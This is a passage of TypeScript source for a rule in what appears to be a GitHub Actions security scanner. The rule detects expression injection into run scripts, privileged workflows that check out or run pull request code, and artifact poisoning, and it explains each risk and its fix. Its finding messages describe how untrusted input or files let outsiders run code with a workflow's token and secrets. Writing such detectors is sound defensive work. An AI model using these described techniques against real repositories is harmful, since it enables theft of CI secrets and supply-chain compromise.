    if (hit.line !== hit.dl.line) evidence.push({ path: wf.path, line: hit.line });
    out.push({
      subject: `${job.id}:artifact-poisoning`,
      path: wf.path,
      severity: 'high',
      confidence: hit.confidence,
      title: 'Privileged workflow executes an untrusted artifact',
      message:
        `${intro(hit.dl)}, and ${stepLabel(hit.step)} ${hit.why}. ${hit.confidence === 'high' ? 'That runs their code' : 'That lets them inject code that runs'} with this job's token and secrets ("artifact poisoning"). ` +
        `${hit.dl.dest.kind === 'dir' && hit.dl.dest.dir.startsWith('$RUNNER_TEMP') ? 'Never' : 'Download into a directory under `${{ runner.temp }}`, never'} execute or \`source\` anything from it, and validate every value read from it (for example a pull request number against \`^[0-9]+$\`) before it reaches a script, \`$GITHUB_ENV\` or \`\${{ }}\`.`,
      evidence
    });
    return;
  }
  const l = later.v;
  if (!l) return;
  out.push({
    subject: `${job.id}:artifact-poisoning`,
    path: wf.path,
    severity: 'medium',
    confidence: 'medium',
    title: 'Privileged workflow extracts an untrusted artifact where it runs code',
    message:
      `${intro(l.dl)}, and ${stepLabel(l.step)} runs code afterwards. pm-action cannot tie that step to the downloaded files, but files extracted there can replace scripts, configuration or tools the job runs later (a \`Makefile\`, \`package.json\`, \`.npmrc\`, a \`.git/hooks\` script). ` +
      'Download into a directory under `${{ runner.temp }}` and treat its contents as data.',
    evidence: l.line === l.dl.line ? [{ path: wf.path, line: l.dl.line }] : [
      { path: wf.path, line: l.dl.line },
      { path: wf.path, line: l.line }
    ]
  });
}

// ---------------------------------------------------------------------------------------------
// Evaluation

function label(wf: WorkflowFile, job: Job): string {
  return wf.kind === 'action' ? `composite action \`${wf.path}\`` : `job \`${job.id}\` of \`${wf.path}\``;
}

function stepLabel(step: Step): string {
  return step.id || step.name ? `step \`${stepKey(step)}\`` : `step ${step.index + 1}`;
}

function describeTaint(t: Taint): string {
  return t.via ? `\`\${{ env.${t.via.env} }}\` (set from \`${t.via.from}\`)` : `\`\${{ ${t.ref} }}\``;
}

function injectionFindings(wf: WorkflowFile, job: Job, wfEnv: ReadonlyMap<string, Taint>, out: FindingDraft[]): void {
  const jobEnv = envScope(wfEnv, job.env);
  for (const step of job.steps) {
    const sinks: { kind: 'run' | 'script'; value: string; line: number }[] = [];
    if (step.run) sinks.push({ kind: 'run', value: step.run.value, line: step.run.line });
    const name = step.uses ? actionName(step.uses.value) : undefined;
    if (name && matchesAction(name, 'actions/github-script') && step.with.script) sinks.push({ kind: 'script', ...step.with.script });
    if (sinks.length === 0) continue;
    if (!sinks.some((s) => s.value.includes('${{'))) continue;
    const env = envScope(jobEnv, step.env);
    const hits: { taint: Taint; line: number; kind: 'run' | 'script' }[] = [];
    for (const sink of sinks) {
      for (const h of scanText(sink.value, env)) {
        let nl = 0;
        for (let q = sink.value.indexOf('\n'); q !== -1 && q < h.offset; q = sink.value.indexOf('\n', q + 1)) nl++;
        hits.push({ taint: h.taint, line: scriptLine(sink, nl), kind: sink.kind });
      }
    }
    if (hits.length === 0) continue;
    const seen = new Set<string>();
    const unique = hits.filter((h) => (seen.has(h.taint.ref) ? false : (seen.add(h.taint.ref), true)));
    const where = hits[0].kind === 'script' ? 'the `script:` of `actions/github-script`' : 'a `run:` script';
    const refs = unique.map((h) => describeTaint(h.taint)).join(', ');
    const envName = (h: (typeof unique)[number]): string => (h.taint.via ? h.taint.via.env : h.taint.ref.split('.').pop()?.toUpperCase().replace(/[^A-Z0-9_]/g, '_') ?? 'VALUE');
    const example = unique[0];
    const fix =
      hits[0].kind === 'script'
        ? `Pass the value through \`env:\` and read \`process.env.${envName(example)}\` in the script instead of interpolating it.`
        : `Pass the value through \`env:\` (\`${envName(example)}: \${{ ${example.taint.via ? example.taint.via.from : example.taint.ref} }}\`) and use \`"$${envName(example)}"\` in the script${example.taint.via ? `, not \`\${{ env.${example.taint.via.env} }}\`` : ''}.`;
    const evidence: Evidence[] = [];
    for (const h of hits) if (!evidence.some((e) => e.line === h.line)) evidence.push({ path: wf.path, line: h.line });
    out.push({
      subject: `${job.id}:${stepKey(step)}:injection`,
      path: wf.path,
      severity: 'high',
      confidence: 'high',
      title: 'Attacker-controlled expression interpolated into code',
      message:
        `${stepLabel(step)[0].toUpperCase()}${stepLabel(step).slice(1)} in ${label(wf, job)} interpolates ${refs} into ${where}. ` +
        'GitHub substitutes the text before the script is parsed, so whoever writes that value (a pull request title, a branch name, a comment) injects code that runs with the job\'s token and secrets. ' +
        fix,
      evidence
    });
  }
}

/** How a job is restricted to trusted commenters, if it is (`issue_comment` only). */
function commentGuardOf(job: Job, checkoutStep: Step, permissionStep: Step | undefined, gatedByNeeds: string | undefined): string | undefined {
  if (commenterGuard(job.if?.value)) return `the job's \`if:\` (\`${job.if?.value.trim()}\`)`;
  if (commenterGuard(checkoutStep.if?.value)) return `the checkout step's \`if:\` (\`${checkoutStep.if?.value.trim()}\`)`;
  if (permissionStep) return `a permission check of the commenter in ${stepLabel(permissionStep)}`;
  if (gatedByNeeds) return `the job it needs, \`${gatedByNeeds}\`, which checks the commenter`;
  return undefined;
}

function checkoutFindings(wf: WorkflowFile, job: Job, privileged: string, mode: CheckoutMode, gatedByNeeds: string | undefined, out: FindingDraft[]): void {
  if (job.uses || job.steps.length === 0 || guarded(job.if?.value)) return;
  const isHead = (v: string): boolean => (mode.prHead && HEAD_REF.test(v)) || (mode.comment && commentPrRef(v));
  // Env entries that carry a PR-head ref (`PR_SHA: ${{ github.event.pull_request.head.sha }}`).
  const headEnvOf = (env: Record<string, { value: string }>, into: Set<string>): void => {
    for (const k of Object.keys(env)) if (isHead(env[k].value)) into.add(k.toLowerCase());
  };
  const jobHeadEnv = new Set<string>();
  headEnvOf(wf.env, jobHeadEnv);
  headEnvOf(job.env, jobHeadEnv);

  const resolvers = new Map<string, Step>();
  let permissionStep: Step | undefined;
  let checkout: ({ step: Step } & CheckoutHit) | undefined;
  let run: Execution | undefined;
  let unknown: Execution | undefined;
  for (const step of job.steps) {
    if (!checkout) {
      let headEnv: ReadonlySet<string> = jobHeadEnv;
      if (Object.keys(step.env).length > 0) {
        const s = new Set(jobHeadEnv);
        headEnvOf(step.env, s);
        headEnv = s;
      }
      const c = prHeadCheckout(step, headEnv, mode, resolvers, job.env);
      if (c && !guarded(step.if?.value)) checkout = { step, ...c };
      else if (mode.comment) {
        if (step.id && resolvesPr(step)) resolvers.set(step.id, step);
        if (!permissionStep && PERMISSION_CHECK.test(stepCode(step))) permissionStep = step;
      }
      continue;
    }
    const e = execution(step);
    if (!e) continue;
    if (e.level === 'run') {
      run = e;
      break;
    }
    unknown ??= e;
  }
  if (!checkout) return;
  const evidence: Evidence[] = [{ path: wf.path, line: checkout.line }];
  let severity: Severity;
  let tail: string;
  if (run) {
    severity = 'critical';
    const at = run.step.run?.line ?? run.step.uses?.line ?? run.step.line;
    evidence.push({ path: wf.path, line: at });
    tail = `and then runs it in ${stepLabel(run.step)} (${run.why}).`;
  } else if (unknown) {
    severity = 'high';
    evidence.push({ path: wf.path, line: unknown.step.uses?.line ?? unknown.step.line });
    tail = `and then uses ${unknown.why}, which may execute files from the checked-out tree (install scripts, configuration, build files); pm-action cannot tell whether it does.`;
  } else {
    severity = 'medium';
    tail =
      'but no later step appears to run it. The checkout itself puts untrusted files (and, unless `persist-credentials: false`, the token) in the workspace, so any step added later runs the contributor\'s code with the base repository\'s privileges.';
  }
  let confidence: 'high' | 'medium' = severity === 'high' ? 'medium' : 'high';
  const title = severity === 'critical' ? 'Privileged workflow runs pull request code' : 'Privileged workflow checks out pull request code';
  let what = checkout.what;
  let extra = '';
  if (checkout.via) {
    confidence = 'medium';
    what += ` (resolved from the pull request by ${stepLabel(checkout.via)})`;
  }
  const guard = mode.comment ? commentGuardOf(job, checkout.step, permissionStep, gatedByNeeds) : undefined;
  if (run && !guard) tail += " Anyone who opens a pull request runs code with this job's token and secrets.";
  if (mode.comment) {
    if (guard) {
      extra =
        ` The checkout is gated on ${guard}, so a maintainer chose to run this pull request and the finding is ${severity === 'medium' ? 'medium' : `medium rather than ${severity}`}. ` +
        'What remains is a time-of-check/time-of-use gap: the pull request\'s head can change between the maintainer\'s comment and the checkout, and the job runs whatever the head is when it starts. ' +
        (checkout.sha
          ? 'The checkout pins a commit SHA, but it is resolved when the workflow runs, after the comment, and pm-action cannot tell that it is the commit the maintainer reviewed, so the finding stays medium.'
          : 'Pin the checkout to the commit SHA the maintainer reviewed (for example one named in the comment, or check that the head commit is older than the comment).');
      severity = 'medium';
    } else {
      extra =
        ' An `issue_comment` workflow runs with the base repository\'s token and secrets for a comment from anyone; a condition on `github.event.issue.pull_request` or on the comment text only says which comment it was, not who wrote it.';
    }
  }
  out.push({
    subject: `${job.id}:pr-head-checkout`,
    path: wf.path,
    severity,
    confidence,
    title,
    message: `Job \`${job.id}\` of \`${wf.path}\` runs on ${privileged} and checks out the pull request's code with ${what} in ${stepLabel(checkout.step)} ${tail}${extra}`,
    evidence
  });
}

export function evaluate(snapshot: GovernanceSnapshot): FindingDraft[] {
  const out: FindingDraft[] = [];
  for (const wf of snapshot.workflows) {
    if (wf.parseError) continue;
    const wfEnv = envScope(new Map(), wf.env);
    const events = new Set(wf.triggers.map((t) => t.event));
    const label = (names: string[]): string => names.filter((e) => events.has(e)).map((e) => `\`${e}\``).join(' and ');
    const privileged = label(['pull_request_target', 'workflow_run', 'issue_comment']);
    const artifacts = label(['workflow_run', 'pull_request_target']);
    const mode: CheckoutMode = { prHead: events.has('pull_request_target') || events.has('workflow_run'), comment: events.has('issue_comment') };
    // issue_comment: jobs whose `if:` or steps check the commenter gate the jobs that need them.
    const gates = new Set<string>();
    if (mode.comment && wf.kind === 'workflow') {
      for (const job of wf.jobs) if (commenterGuard(job.if?.value) || job.steps.some((s) => PERMISSION_CHECK.test(stepCode(s)))) gates.add(job.id);
    }
    for (const job of wf.jobs) {
      injectionFindings(wf, job, wfEnv, out);
      if (wf.kind !== 'workflow') continue;
      if (privileged) {
        // A job that runs whatever its needs did (`always()`, `failure()`, `cancelled()`) is not gated by them.
        const overrides = /\b(?:always|failure|cancelled)\s*\(/i.test(job.if?.value ?? '');
        const gatedBy = gates.size > 0 && !overrides ? job.needs.find((n) => gates.has(n)) : undefined;
        checkoutFindings(wf, job, privileged, mode, gatedBy, out);
      }
      if (artifacts) artifactFindings(wf, job, artifacts, out);
    }
  }
  return out;
}

export const rule: Rule = { meta, evaluate };
